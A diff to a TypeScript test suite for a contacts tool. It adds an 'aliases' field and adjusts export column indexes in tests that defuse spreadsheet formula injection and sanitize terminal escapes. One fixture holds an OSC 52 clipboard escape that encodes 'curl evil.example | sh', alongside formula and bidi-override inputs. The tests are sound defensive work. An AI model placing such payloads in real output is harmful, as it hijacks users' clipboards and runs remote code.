@@ -27,6 +27,7 @@ function contactLine(id: number, fields: Record<string, unknown>): string {
     type: 'contact',
     id,
     name: `Contact ${id}`,
+    aliases: [],
     company: null,
     role: null,
     email: null,
@@ -77,6 +78,7 @@ describe('csv: one rule for every command and the export', () => {
     await importLines(j, [
       contactLine(1, {
         name: HYPERLINK,
+        aliases: [],
         company: CALC,
         role: SUM,
         phone: '+49 30 1234',
@@ -147,6 +149,7 @@ describe('csv: one rule for every command and the export', () => {
     const json = JSON.parse(await ok(['contacts', '--json'])) as Record<string, unknown>[];
     expect(json.find((c) => c.id === 1)).toMatchObject({
       name: HYPERLINK,
+      aliases: [],
       company: CALC,
       role: SUM,
       howMet: '=1+1',
@@ -156,8 +159,8 @@ describe('csv: one rule for every command and the export', () => {
       tsv
         .find((line) => line.startsWith('1\t'))
         ?.split('\t')
-        .slice(1, 4),
-    ).toEqual([HYPERLINK, CALC, SUM]);
+        .slice(1, 5),
+    ).toEqual([HYPERLINK, '', CALC, SUM]);
   });
 
   it('import of the exported csv undoes exactly the defusing', async () => {
@@ -229,6 +232,7 @@ const optional = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: null });
 
 const contactArb = fc.record({
   name: text,
+  aliases: fc.constant([] as string[]),
   company: optional(text),
   role: optional(text),
   phone: optional(fc.constantFrom('+49 30 1234', '-1', '=1+1', "'+1 555", '(030) 1234')),
@@ -426,7 +430,7 @@ describe('nothing raw reaches a terminal', () => {
     expect(eve(csv)?.[1]).toBe(
       'Eve \\x1b[2J\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202eexe.txt',
     );
-    expect(eve(csv)?.[12]).toBe('met at\\nthe \\x07bell\\x08 \\u200fdesk\\u061c\\tend');
+    expect(eve(csv)?.[13]).toBe('met at\\nthe \\x07bell\\x08 \\u200fdesk\\u061c\\tend');
     const json = JSON.parse(await ok(['contacts', '--json'], { tty: true })) as {
       id: number;
       name: string;
@@ -439,6 +443,7 @@ describe('nothing raw reaches a terminal', () => {
     const json = JSON.parse(await ok(['contacts', '--json'])) as Record<string, unknown>[];
     expect(json.find((c) => c.id === 1)).toMatchObject({
       name: NAME,
+      aliases: [],
       company: COMPANY,
       role: OSC52,
       howMet: HOW,
@@ -459,7 +464,7 @@ describe('nothing raw reaches a terminal', () => {
       );
     const tsv =
       eve((await ok(['contacts', '--format', 'tsv'])).split('\n').map((l) => l.split('\t'))) ?? [];
-    expect([tsv[1], tsv[2], tsv[3], tsv[12]].map((c) => unTsv(c ?? ''))).toEqual([
+    expect([tsv[1], tsv[3], tsv[4], tsv[13]].map((c) => unTsv(c ?? ''))).toEqual([
       NAME,
       COMPANY,
       OSC52,
